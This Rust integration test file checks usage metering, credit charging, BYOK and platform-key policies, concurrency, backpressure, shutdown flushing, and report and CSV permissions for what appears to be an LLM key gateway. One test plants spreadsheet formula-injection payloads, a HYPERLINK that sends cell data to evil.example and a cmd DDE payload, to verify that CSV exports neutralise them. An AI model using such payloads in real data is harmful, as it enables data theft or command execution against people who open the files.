//! Usage metering and credits on SQLite and PostgreSQL, against the mock provider: exact token
//! and credit accounting for streamed (playground) and non-streamed requests, estimates when the
//! provider reports no usage, both BYOK credit policies, the fallback path charging the
//! platform, zero balance (platform refused, BYOK continues), 200 concurrent requests, the
//! writer's backpressure, retries and shutdown flush, `last_used_at`, the report, CSV and
//! permissions.

use crate::chat::{Chat, WS_KEY, chat_world, done, events};
use crate::helpers::{Backend, both_backends};
use keyward::chat::MessageStatus;
use keyward::keys::FailurePolicy;
use keyward::resolve::KeySource;
use keyward::usage::{ByokCreditPolicy, MICRO, Outcome, Price, UsageChannel};
use keyward_app::api::{GetUsage, TopUpCredits};
use keyward_server::entities::{credential, message, usage_record};
use keyward_server::mock_provider::MockConfig;
use keyward_server::services::audit::By;
use keyward_server::services::chat::{ChatCall, ChatError, ReplyBody};
use keyward_server::services::credits;
use keyward_server::services::keys::{self, NewKey, Scope};
use keyward_server::services::routing;
use keyward_server::services::usage::{self, UsageMeter, UsageRecord, UsageWriter, WriterConfig};
use leptos::server_fn::ServerFn;
use sea_orm::{ColumnTrait, EntityTrait, QueryFilter, QueryOrder};
use secrecy::SecretString;
use serde_json::{Map, Value, json};
use std::time::{Duration, Instant};
use uuid::Uuid;

/// $2 per million input tokens, $10 per million output tokens for the mock's model.
const PRICE: Price = Price {
    input: 2 * MICRO,
    output: 10 * MICRO,
};
const BUSINESS_ALLOWANCE: i64 = 50 * MICRO;

fn expected_cost(input: i64, output: i64) -> i64 {
    // Exact here (whole micro-credits): 2 and 10 micro-credits per token.
    input * 2 + output * 10
}

async fn byok_policy(c: &Chat, policy: ByokCreditPolicy) {
    let (db, changes) = (&c.w.app.db, &c.w.app.state.changes);
    credits::set_byok_credit_policy(db, changes, &By::cli(), policy)
        .await
        .unwrap();
}

async fn top_up(c: &Chat, micro: i64, note: &str) {
    let (db, changes) = (&c.w.app.db, &c.w.app.state.changes);
    credits::top_up(db, changes, &By::cli(), c.w.ws.id, micro, note)
        .await
        .unwrap();
}

/// Enables or disables one of the workspace's keys.
async fn enable(c: &Chat, key: uuid::Uuid, enabled: bool) {
    let (db, changes, scope) = (
        &c.w.app.db,
        &c.w.app.state.changes,
        Scope::Workspace(c.w.ws.id),
    );
    keys::set_enabled(db, changes, &By::cli(), scope, key, enabled)
        .await
        .unwrap();
}

/// Deletes the workspace's own key (then the platform's key serves it); its id.
async fn delete_workspace_key(c: &Chat) -> uuid::Uuid {
    let db = &c.w.app.db;
    let key = credential::Entity::find()
        .filter(credential::Column::WorkspaceId.eq(c.w.ws.id))
        .one(db)
        .await
        .unwrap()
        .unwrap();
    let scope = Scope::Workspace(c.w.ws.id);
    keys::delete(db, &c.w.app.state.changes, &By::cli(), scope, key.id)
        .await
        .unwrap();
    key.id
}

async fn priced_world(backend: Backend) -> Chat {
    let c = chat_world(backend, MockConfig::default(), |_| {}).await;
    credits::set_price(
        &c.w.app.db,
        &c.w.app.state.changes,
        &By::cli(),
        "openai",
        "mock-small",
        PRICE,
    )
    .await
    .unwrap();
    c
}

async fn records(c: &Chat) -> Vec<usage_record::Model> {
    c.w.app.state.usage.flush().await;
    usage_record::Entity::find()
        .filter(usage_record::Column::WorkspaceId.eq(c.w.ws.id))
        .order_by_asc(usage_record::Column::CreatedAt)
        .order_by_asc(usage_record::Column::Id)
        .all(&c.w.app.db)
        .await
        .unwrap()
}

async fn playground(c: &Chat, text: &str) -> keyward::chat::ChatMessageView {
    let reply = events(
        c.send(
            &c.playground_url(),
            Some(&c.w.owner),
            json!({"message": text, "model": "openai/mock-small"}),
        )
        .await,
    )
    .await;
    done(&reply)
}

async fn add_platform_key(c: &Chat, key: &str) -> Uuid {
    let view = keys::add(
        c.w.app.state.key_deps(),
        &By::cli(),
        Scope::Platform,
        NewKey {
            provider: "openai".into(),
            key: SecretString::from(key),
            default_model: String::new(),
            base_url: String::new(),
        },
    )
    .await
    .unwrap();
    Uuid::parse_str(&view.id).unwrap()
}

async fn balance(c: &Chat) -> i64 {
    credits::current_balance(&c.w.app.db, c.w.ws.id)
        .await
        .unwrap()
}

async fn streamed_accounting(backend: Backend) {
    let c = priced_world(backend).await;
    let db = &c.w.app.db;
    assert_eq!(
        balance(&c).await,
        BUSINESS_ALLOWANCE,
        "the month's allowance"
    );

    // 1. BYOK under `free`: tokens recorded exactly, no credits, cost at list price.
    let m1 = playground(&c, "hello there friend").await;
    assert_eq!(m1.status, MessageStatus::Ok);
    // 2. BYOK under `track_only`: the same request is charged.
    byok_policy(&c, ByokCreditPolicy::TrackOnly).await;
    let m2 = playground(&c, "second message please").await;
    byok_policy(&c, ByokCreditPolicy::Free).await;
    // 3. Platform key (the workspace key deleted) under `free`: always charged.
    let ws_key = delete_workspace_key(&c).await;
    let platform = add_platform_key(&c, "sk-platform-usage-key-000000009999").await;
    let m3 = playground(&c, "third one").await;

    let recs = records(&c).await;
    assert_eq!(recs.len(), 3, "{recs:#?}");
    let stored: Vec<message::Model> = message::Entity::find()
        .filter(message::Column::WorkspaceId.eq(c.w.ws.id))
        .filter(message::Column::Role.eq("assistant"))
        .order_by_asc(message::Column::CreatedAt)
        .all(db)
        .await
        .unwrap();
    assert_eq!(stored.len(), 3);
    let mut charged = 0;
    for (i, (r, m)) in recs.iter().zip(&stored).enumerate() {
        // The provider's own usage, the same numbers the message row shows.
        assert_eq!(Some(r.input_tokens), m.input_tokens, "record {i}");
        assert_eq!(Some(r.output_tokens), m.output_tokens, "record {i}");
        assert!(r.input_tokens > 0 && r.output_tokens > 0);
        assert!(!r.tokens_estimated);
        assert_eq!(r.outcome, "ok");
        assert_eq!(r.channel, "dashboard");
        assert_eq!(r.provider, "openai");
        assert_eq!(r.model, "mock-small");
        assert!(r.conversation_id.is_some());
        assert!(r.first_token_ms.is_some());
        assert_eq!(r.cost, expected_cost(r.input_tokens, r.output_tokens));
        charged += r.credits;
    }
    assert_eq!(recs[0].key_source.as_deref(), Some("workspace"));
    assert_eq!(recs[0].key_id, Some(ws_key));
    assert_eq!(recs[0].credits, 0, "BYOK is free under `free`");
    assert_eq!(
        recs[1].credits, recs[1].cost,
        "BYOK charged under `track_only`"
    );
    assert_eq!(recs[2].key_source.as_deref(), Some("platform"));
    assert_eq!(recs[2].key_id, Some(platform));
    assert_eq!(recs[2].credits, recs[2].cost, "platform keys always pay");
    assert_eq!(
        [m1.input_tokens, m2.input_tokens, m3.input_tokens].map(Option::unwrap),
        [0, 1, 2].map(|i| u64::try_from(recs[i].input_tokens).unwrap())
    );

    // The balance and the ledger agree to the micro-credit.
    assert_eq!(balance(&c).await, BUSINESS_ALLOWANCE - charged);
    let ledger = credits::ledger(db, Some(c.w.ws.id), 50).await.unwrap();
    let debited: i64 = ledger
        .iter()
        .filter(|e| e.kind == "usage")
        .map(|e| -e.amount)
        .sum();
    assert_eq!(debited, charged);
    assert_eq!(ledger.last().unwrap().kind, "allowance");
    assert_eq!(
        ledger.first().unwrap().balance_after,
        BUSINESS_ALLOWANCE - charged
    );

    // Used keys show when they were last used; the platform key's time is written too.
    let p = credential::Entity::find_by_id(platform)
        .one(db)
        .await
        .unwrap()
        .unwrap();
    assert!(p.last_used_at.is_some());

    // The report over HTTP (a member may read it) adds up to the same numbers.
    let res =
        c.w.app
            .client
            .post(c.w.app.url(GetUsage::PATH))
            .header("cookie", &c.w.member)
            .header(keyward::http::CSRF_HEADER, "1")
            .form(&[("workspace_id", c.ws())])
            .send()
            .await
            .unwrap();
    assert_eq!(res.status(), 200);
    let report: keyward::usage::UsageReport = res.json().await.unwrap();
    assert_eq!(report.totals.requests, 3);
    let tokens: i64 = recs.iter().map(|r| r.input_tokens + r.output_tokens).sum();
    assert_eq!(report.totals.tokens(), u64::try_from(tokens).unwrap());
    assert_eq!(report.totals.credits, charged);
    assert_eq!(report.providers, ["openai"]);
    assert_eq!(report.days.len(), 30);
    let today = report.days.last().unwrap();
    assert_eq!(today.by_provider[0].1, 3);
    let sources: Vec<(String, u64)> = report
        .by_source
        .iter()
        .map(|r| (r.label.clone(), r.totals.requests))
        .collect();
    assert!(
        sources.contains(&("BYOK — workspace key".into(), 2)),
        "{sources:?}"
    );
    assert!(sources.contains(&("Platform key".into(), 1)), "{sources:?}");
    assert_eq!(report.by_model[0].label, "openai/mock-small");
    assert_eq!(report.by_key.len(), 2);
    assert_eq!(report.balance, Some(BUSINESS_ALLOWANCE - charged));

    // CSV: a header and one line per record; a member of another workspace gets 404.
    let csv =
        c.w.app
            .client
            .get(c.w.app.url(&format!("/api/usage.csv?workspace={}", c.ws())))
            .header("cookie", &c.w.member)
            .send()
            .await
            .unwrap();
    assert_eq!(csv.status(), 200);
    assert!(
        csv.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .starts_with("attachment; filename=\"keyward-usage-")
    );
    let body = csv.text().await.unwrap();
    let lines: Vec<&str> = body.lines().collect();
    assert_eq!(lines.len(), 4, "{body}");
    assert!(lines[0].starts_with("time_utc,workspace,chatbot,"));
    assert!(
        lines[3].contains(",openai,mock-small,platform,"),
        "{}",
        lines[3]
    );
    let anon =
        c.w.app
            .client
            .get(c.w.app.url(&format!("/api/usage.csv?workspace={}", c.ws())))
            .send()
            .await
            .unwrap();
    assert_eq!(anon.status(), 401);
    let foreign =
        c.w.app
            .client
            .get(
                c.w.app
                    .url(&format!("/api/usage.csv?workspace={}", Uuid::new_v4())),
            )
            .header("cookie", &c.w.owner)
            .send()
            .await
            .unwrap();
    assert_eq!(foreign.status(), 404);
    // Members cannot read the instance-wide export or add credits.
    let all =
        c.w.app
            .client
            .get(c.w.app.url("/api/usage.csv"))
            .header("cookie", &c.w.member)
            .send()
            .await
            .unwrap();
    assert_eq!(all.status(), 403);
    let (s, out) = c
        .post_form(
            TopUpCredits::PATH,
            vec![("workspace_id", c.ws()), ("credits", "100".into())],
            &c.w.member.clone(),
        )
        .await;
    // Server functions answer errors as 500 with the typed error in the body.
    assert_eq!((s, out.as_str()), (500, "\"Forbidden\""));
    assert_eq!(balance(&c).await, BUSINESS_ALLOWANCE - charged);
}
both_backends!(streamed_accounting, super::streamed_accounting);

/// A whole (non-streaming) answer through the chat pipeline, metered: its body and key source.
async fn complete_metered(
    state: &keyward_server::state::AppState,
    call: ChatCall,
    meter: UsageMeter,
) -> Result<(Value, KeySource), ChatError> {
    let r = state.chat.run(call, meter).await.map_err(|f| f.error)?;
    match r.body {
        ReplyBody::Complete { body, .. } => Ok((body, r.served.source)),
        ReplyBody::Stream(_) => panic!("a whole answer was asked for"),
    }
}

fn call(c: &Chat, content: &str) -> (ChatCall, UsageMeter) {
    let mut request = Map::new();
    request.insert(
        "messages".into(),
        json!([{"role": "user", "content": content}]),
    );
    let meter = UsageMeter {
        workspace: c.w.ws.id,
        chatbot: None,
        conversation: None,
        api_token: None,
        channel: UsageChannel::Api,
        provider: "openai".into(),
        model: Some("mock-small".into()),
        input_estimate: UsageMeter::estimate_input(&request),
        started: Instant::now(),
    };
    (
        ChatCall {
            workspace: c.w.ws.id,
            chatbot: None,
            provider: "openai".into(),
            model: Some("mock-small".into()),
            request,
            stream: false,
        },
        meter,
    )
}

async fn non_streamed_and_estimated(backend: Backend) {
    let c = priced_world(backend).await;
    let state = c.w.app.state.clone();
    byok_policy(&c, ByokCreditPolicy::TrackOnly).await;
    // The mock answers `You said: <message>`, a token per word; the prompt counts its words.
    let (call1, meter1) = call(&c, "one two three four");
    let (body, source) = complete_metered(&state, call1, meter1).await.unwrap();
    assert_eq!(source, KeySource::Workspace);
    assert_eq!(body["usage"]["prompt_tokens"], 4);
    let out = body["usage"]["completion_tokens"].as_i64().unwrap();
    // A provider that reports no usage: estimated from the text, and flagged.
    delete_workspace_key(&c).await;
    c.add_key("", "sk-nousage-provider-key-000000007777").await;
    let (call2, meter2) = call(&c, "abcdefgh");
    let (body2, _) = complete_metered(&state, call2, meter2).await.unwrap();
    assert!(body2.get("usage").is_none());
    let reply = body2["choices"][0]["message"]["content"].as_str().unwrap();

    let recs = records(&c).await;
    assert_eq!(recs.len(), 2);
    let (a, b) = (&recs[0], &recs[1]);
    assert_eq!((a.input_tokens, a.output_tokens), (4, out));
    assert!(!a.tokens_estimated);
    assert_eq!(a.channel, "api");
    assert_eq!(a.cost, expected_cost(4, out));
    assert_eq!(a.credits, a.cost);
    assert!(b.tokens_estimated);
    assert_eq!(b.input_tokens, 2, "8 characters ≈ 2 tokens");
    assert_eq!(
        b.output_tokens,
        i64::try_from(keyward::usage::estimate_tokens(reply)).unwrap()
    );
    assert_eq!(b.credits, expected_cost(b.input_tokens, b.output_tokens));
    assert_eq!(
        balance(&c).await,
        BUSINESS_ALLOWANCE - a.credits - b.credits
    );
}
both_backends!(
    non_streamed_and_estimated,
    super::non_streamed_and_estimated
);

async fn fallback_charges_platform(backend: Backend) {
    let c = priced_world(backend).await;
    let db = &c.w.app.db;
    routing::set_failure_policy(
        db,
        &c.w.app.state.changes,
        &By::cli(),
        c.w.ws.id,
        FailurePolicy::FallbackToPlatform,
    )
    .await
    .unwrap();
    let platform = add_platform_key(&c, "sk-platform-fallback-key-00000005555").await;
    // The provider revokes the workspace key: the platform key answers, and pays.
    crate::chat::revoke_at_mock(c.w.mock, WS_KEY).await;
    let m = playground(&c, "are you there").await;
    assert_eq!(m.status, MessageStatus::Ok);
    assert_eq!(m.source, Some(KeySource::Platform));
    let recs = records(&c).await;
    assert_eq!(recs.len(), 1);
    let r = &recs[0];
    assert_eq!(r.key_source.as_deref(), Some("platform"));
    assert_eq!(r.key_id, Some(platform));
    assert!(r.fell_back);
    assert!(r.cost > 0);
    assert_eq!(
        r.credits, r.cost,
        "the fallback is charged to the platform's credits"
    );
    assert_eq!(balance(&c).await, BUSINESS_ALLOWANCE - r.credits);
}
both_backends!(fallback_charges_platform, super::fallback_charges_platform);

async fn zero_balance(backend: Backend) {
    let c = priced_world(backend).await;
    let db = &c.w.app.db;
    let ws_key = credential::Entity::find()
        .filter(credential::Column::WorkspaceId.eq(c.w.ws.id))
        .one(db)
        .await
        .unwrap()
        .unwrap();
    enable(&c, ws_key.id, false).await;
    add_platform_key(&c, "sk-platform-zero-key-0000000004444").await;
    // Remove every credit: platform-key requests are refused with a clear message.
    let b = balance(&c).await;
    top_up(&c, -b, "test: empty the balance").await;
    assert_eq!(balance(&c).await, 0);
    let reply = events(
        c.send(
            &c.playground_url(),
            Some(&c.w.owner),
            json!({"message": "hi", "model": "openai/mock-small"}),
        )
        .await,
    )
    .await;
    match reply.last() {
        Some(keyward::chat::ChatEvent::Error { message, class, .. }) => {
            assert_eq!(class.as_deref(), Some("no_credits"));
            assert!(message.contains("no credits left"), "{message}");
        }
        other => panic!("expected a refusal, got {other:?}"),
    }
    // BYOK traffic under `free` continues at zero balance.
    enable(&c, ws_key.id, true).await;
    let m = playground(&c, "byok still works").await;
    assert_eq!(m.status, MessageStatus::Ok);
    assert_eq!(m.source, Some(KeySource::Workspace));
    // A top-up lets platform traffic through again.
    top_up(&c, 5 * MICRO, "test top-up").await;
    enable(&c, ws_key.id, false).await;
    let m = playground(&c, "platform again").await;
    assert_eq!(m.source, Some(KeySource::Platform));

    let recs = records(&c).await;
    let outcomes: Vec<(&str, Option<&str>, Option<&str>, i64)> = recs
        .iter()
        .map(|r| {
            (
                r.outcome.as_str(),
                r.key_source.as_deref(),
                r.error_class.as_deref(),
                r.credits,
            )
        })
        .collect();
    assert_eq!(outcomes.len(), 3);
    assert_eq!(
        outcomes[0],
        ("error", Some("platform"), Some("no_credits"), 0)
    );
    assert_eq!(outcomes[1].0, "ok");
    assert_eq!(outcomes[1].3, 0);
    assert_eq!(outcomes[2].1, Some("platform"));
    assert_eq!(balance(&c).await, 5 * MICRO - recs[2].credits);
}
both_backends!(zero_balance, super::zero_balance);

async fn concurrent_requests(backend: Backend) {
    let c = priced_world(backend).await;
    let state = c.w.app.state.clone();
    byok_policy(&c, ByokCreditPolicy::TrackOnly).await;
    let mut tasks = Vec::new();
    for i in 0..200 {
        let (call, meter) = call(&c, &format!("request number {i}"));
        let state = state.clone();
        tasks.push(tokio::spawn(async move {
            complete_metered(&state, call, meter).await.map(|(b, _)| b)
        }));
    }
    let mut want_in = 0;
    let mut want_out = 0;
    for t in tasks {
        let body: Value = t.await.unwrap().unwrap();
        want_in += body["usage"]["prompt_tokens"].as_i64().unwrap();
        want_out += body["usage"]["completion_tokens"].as_i64().unwrap();
    }
    let recs = records(&c).await;
    assert_eq!(recs.len(), 200);
    let ids: std::collections::HashSet<Uuid> = recs.iter().map(|r| r.id).collect();
    assert_eq!(ids.len(), 200);
    assert_eq!(recs.iter().map(|r| r.input_tokens).sum::<i64>(), want_in);
    assert_eq!(recs.iter().map(|r| r.output_tokens).sum::<i64>(), want_out);
    let charged: i64 = recs.iter().map(|r| r.credits).sum();
    assert_eq!(charged, expected_cost(want_in, want_out));
    assert_eq!(balance(&c).await, BUSINESS_ALLOWANCE - charged);
    let stats = state.usage.stats();
    use std::sync::atomic::Ordering::Relaxed;
    assert_eq!(stats.written.load(Relaxed), 200);
    assert_eq!(stats.dropped.load(Relaxed), 0);
}
both_backends!(concurrent_requests, super::concurrent_requests);

fn record_for(ws: Uuid, i: u64) -> UsageRecord {
    UsageRecord {
        id: Uuid::now_v7(),
        at: chrono::Utc::now(),
        workspace: ws,
        chatbot: None,
        conversation: None,
        api_token: None,
        channel: UsageChannel::Api,
        provider: "openai".into(),
        model: "mock-small".into(),
        source: Some(KeySource::Platform),
        key_id: None,
        key_hint: None,
        input_tokens: 10 + i,
        output_tokens: 5,
        estimated: false,
        first_token_ms: Some(1),
        latency_ms: 2,
        outcome: Outcome::Ok,
        error_class: None,
        fell_back: false,
        priced: None,
        owed: 0,
    }
}

async fn writer_backpressure_and_shutdown(backend: Backend) {
    let c = priced_world(backend).await;
    let db = c.w.app.db.clone();
    // A writer that would only flush by size (never by time), with a one-record buffer that
    // 100 requests offer to at once.
    let writer = UsageWriter::spawn(
        db.clone(),
        credits::CreditBook::new(c.w.app.state.changes.clone()),
        None,
        WriterConfig {
            capacity: 1,
            batch: 1_000,
            interval: Duration::from_secs(3_600),
        },
    );
    futures_util::future::join_all((0..100).map(|i| writer.record(record_for(c.w.ws.id, i)))).await;
    use std::sync::atomic::Ordering::Relaxed;
    assert!(
        writer.stats().backpressure_waits.load(Relaxed) > 0,
        "a full buffer makes requests wait"
    );
    assert_eq!(
        keyward_server::services::usage::count(&db, c.w.ws.id)
            .await
            .unwrap(),
        0
    );
    // Shutdown writes what is buffered, exactly once.
    writer.shutdown().await;
    assert_eq!(
        keyward_server::services::usage::count(&db, c.w.ws.id)
            .await
            .unwrap(),
        100
    );
    assert_eq!(writer.stats().written.load(Relaxed), 100);
    // After shutdown a record is refused — and counted, never silently lost.
    writer.record(record_for(c.w.ws.id, 0)).await;
    assert_eq!(writer.stats().dropped.load(Relaxed), 1);
    assert_eq!(
        keyward_server::services::usage::count(&db, c.w.ws.id)
            .await
            .unwrap(),
        100
    );
    let charged: i64 = (0..100).map(|i| expected_cost(10 + i, 5)).sum();
    assert_eq!(balance(&c).await, BUSINESS_ALLOWANCE - charged);

    // The server's own graceful stop flushes its writer too (its interval has not passed).
    let mut c = c;
    c.w.app
        .state
        .usage
        .record(record_for(c.w.ws.id, 1000))
        .await;
    c.w.app.shutdown().await;
    assert_eq!(
        keyward_server::services::usage::count(&db, c.w.ws.id)
            .await
            .unwrap(),
        101
    );
}
both_backends!(
    writer_backpressure_and_shutdown,
    super::writer_backpressure_and_shutdown
);

async fn failed_flushes_are_retried(backend: Backend) {
    use sea_orm::{ActiveModelTrait, Set};
    use std::sync::atomic::Ordering::Relaxed;
    let c = priced_world(backend).await;
    let db = c.w.app.db.clone();
    let writer = UsageWriter::spawn(
        db.clone(),
        credits::CreditBook::new(c.w.app.state.changes.clone()),
        None,
        WriterConfig {
            capacity: 64,
            batch: 64,
            interval: Duration::from_millis(50),
        },
    );
    // Records of a workspace the database does not know yet: every flush fails (foreign key).
    let ghost = Uuid::new_v4();
    for i in 0..3 {
        writer.record(record_for(ghost, i)).await;
    }
    crate::helpers::eventually(Duration::from_secs(10), "two failed flushes", || async {
        (writer.stats().failed_flushes.load(Relaxed) >= 2).then_some(())
    })
    .await;
    assert_eq!(
        keyward_server::services::usage::count(&db, ghost)
            .await
            .unwrap(),
        0
    );
    // The cause goes away: the kept batch is written on the next attempt, nothing lost.
    let now = chrono::Utc::now();
    keyward_server::entities::workspace::ActiveModel {
        id: Set(ghost),
        name: Set("Late".into()),
        slug: Set(format!("late-{}", &ghost.simple().to_string()[..8])),
        plan: Set("free".into()),
        failure_policy: Set("fail_closed".into()),
        default_provider: Set(None),
        allowance: Set(true),
        created_at: Set(now),
        updated_at: Set(now),
    }
    .insert(&db)
    .await
    .unwrap();
    writer.flush().await;
    assert_eq!(
        keyward_server::services::usage::count(&db, ghost)
            .await
            .unwrap(),
        3
    );
    assert_eq!(writer.stats().written.load(Relaxed), 3);
    assert_eq!(writer.stats().dropped.load(Relaxed), 0);
    // Records of a workspace that never comes back are set aside after five failed attempts
    // (counted as dropped), so they cannot block everyone else's.
    let gone = Uuid::new_v4();
    for i in 0..2 {
        writer.record(record_for(gone, i)).await;
    }
    writer.record(record_for(c.w.ws.id, 7)).await;
    writer.flush().await;
    assert_eq!(writer.stats().dropped.load(Relaxed), 2);
    assert_eq!(
        keyward_server::services::usage::count(&db, c.w.ws.id)
            .await
            .unwrap(),
        1
    );
    assert_eq!(writer.stats().written.load(Relaxed), 4);
    writer.shutdown().await;
}
both_backends!(
    failed_flushes_are_retried,
    super::failed_flushes_are_retried
);

/// What hostile tenants and upstreams can put into usage data never turns into a formula in a
/// spreadsheet, and an absurd token count cannot break the sums.
async fn hostile_values_in_exports_and_reports(backend: Backend) {
    use keyward::usage::{MAX_PRICE, MAX_REPORTED_TOKENS};
    use keyward_server::entities::workspace;
    use sea_orm::{ActiveModelTrait, Set};
    let c = priced_world(backend).await;
    let db = &c.w.app.db;
    // A formula as the workspace name (any signed-in user can name a workspace).
    let mut ws: workspace::ActiveModel = workspace::Entity::find_by_id(c.w.ws.id)
        .one(db)
        .await
        .unwrap()
        .unwrap()
        .into();
    ws.name = Set("=HYPERLINK(\"https://evil.example/?\"&B2,\"open\")".into());
    ws.update(db).await.unwrap();
    // The highest price on every other OpenAI model, and an upstream that reports 10^18 tokens each way.
    credits::set_price(
        db,
        &c.w.app.state.changes,
        &By::cli(),
        "*",
        "*",
        Price {
            input: MAX_PRICE,
            output: MAX_PRICE,
        },
    )
    .await
    .unwrap();
    assert!(
        credits::set_price(
            db,
            &c.w.app.state.changes,
            &By::cli(),
            "*",
            "*",
            Price {
                input: MAX_PRICE + 1,
                output: 0
            }
        )
        .await
        .is_err(),
        "prices are capped"
    );
    delete_workspace_key(&c).await;
    c.add_key("", "sk-hugeusage-provider-key-0000000777").await;
    let state = c.w.app.state.clone();
    for _ in 0..3 {
        let (mut call, mut meter) = call(&c, "hello");
        // A model id that is a formula (the /v1 API takes model ids as they come).
        call.model = Some("@SUM(1+1)*cmd|' /C calc'!A0".into());
        meter.model = call.model.clone();
        complete_metered(&state, call, meter).await.unwrap();
    }
    let recs = records(&c).await;
    assert_eq!(recs.len(), 3);
    let max = i64::try_from(MAX_REPORTED_TOKENS).unwrap();
    assert!(
        recs.iter()
            .all(|r| r.input_tokens == max && r.output_tokens == max)
    );
    // Bounded: 2 × 10^9 tokens at the highest price.
    let each = keyward::usage::cost(
        Price {
            input: MAX_PRICE,
            output: MAX_PRICE,
        },
        MAX_REPORTED_TOKENS,
        MAX_REPORTED_TOKENS,
    );
    assert!(recs.iter().all(|r| r.cost > 0 && r.cost <= each));
    assert!(
        each < i64::MAX / 100_000,
        "100 000 requests at the bound still sum without overflow"
    );
    let total: i64 = recs.iter().map(|r| r.cost).sum();

    // The reports still add up, the workspace's and the instance-wide one.
    let book = &c.w.app.state.credits;
    let ws_model = workspace::Entity::find_by_id(c.w.ws.id)
        .one(db)
        .await
        .unwrap()
        .unwrap();
    let mine = usage::report(db, book, Some(&ws_model), "", "")
        .await
        .unwrap();
    assert_eq!(mine.totals.cost, total);
    assert_eq!(mine.totals.input_tokens, 3 * MAX_REPORTED_TOKENS);
    let all = usage::report(db, book, None, "", "").await.unwrap();
    assert!(all.totals.cost >= total);

    // Both exports: no cell starts a formula.
    for scope in [Some(c.w.ws.id), None] {
        let bytes = usage::csv(db, scope, "", "").await.unwrap();
        let mut rows = csv::Reader::from_reader(bytes.as_slice());
        let mut seen = 0;
        for row in rows.records() {
            let row = row.unwrap();
            for cell in row.iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{scope:?}: {cell:?}"
                );
            }
            if row.iter().any(|cell| cell.starts_with("'@SUM")) {
                assert!(row.iter().any(|cell| cell.starts_with("'=HYPERLINK")));
                seen += 1;
            }
        }
        assert_eq!(
            seen, 3,
            "{scope:?}: the hostile rows are exported, neutralised"
        );
    }
}
both_backends!(
    hostile_values_in_exports_and_reports,
    super::hostile_values_in_exports_and_reports
);

/// A stream that ends while the server shuts down keeps its usage record: shutdown waits for the
/// work requests leave behind (here, the record of a stream that just ended) before the usage
/// writer drains.
async fn a_stream_ending_during_shutdown_keeps_its_record(backend: Backend) {
    use futures_util::StreamExt;
    let mock = MockConfig {
        tokens_per_sec: 25,
        ..Default::default()
    };
    let mut c = chat_world(backend, mock, |_| {}).await;
    let (_, token) = crate::public_api::token(&c, &[keyward::tokens::TokenScope::Chat]).await;
    let res =
        c.w.app
            .client
            .post(c.w.app.url("/v1/chat/completions"))
            .bearer_auth(&token)
            .json(&json!({"model": "openai/mock-small", "stream": true,
                      "messages": [{"role": "user", "content": "one two three four five six"}]}))
            .send()
            .await
            .unwrap();
    assert_eq!(res.status(), 200);
    let mut body = res.bytes_stream();
    let first = body.next().await.unwrap().unwrap();
    assert!(first.starts_with(b"data: "), "the answer is streaming");
    // Shutdown starts mid-answer; the answer still finishes (graceful drain) and is read out.
    let reader = tokio::spawn(async move {
        let mut rest = Vec::new();
        while let Some(Ok(b)) = body.next().await {
            rest.extend_from_slice(&b);
        }
        String::from_utf8_lossy(&rest).into_owned()
    });
    c.w.app.shutdown().await;
    let rest = reader.await.unwrap();
    assert!(
        rest.ends_with("data: [DONE]\n\n"),
        "the stream finished: {rest}"
    );
    let recs = records(&c).await;
    assert_eq!(recs.len(), 1, "the record of the stream was written");
    assert_eq!(recs[0].outcome, Outcome::Ok.as_str());
    assert_eq!(recs[0].output_tokens, 8, "You said: + six words");
    let dropped =
        c.w.app
            .state
            .usage
            .stats()
            .dropped
            .load(std::sync::atomic::Ordering::Relaxed);
    assert_eq!(dropped, 0);
}
both_backends!(
    a_stream_ending_during_shutdown_keeps_its_record,
    super::a_stream_ending_during_shutdown_keeps_its_record
);
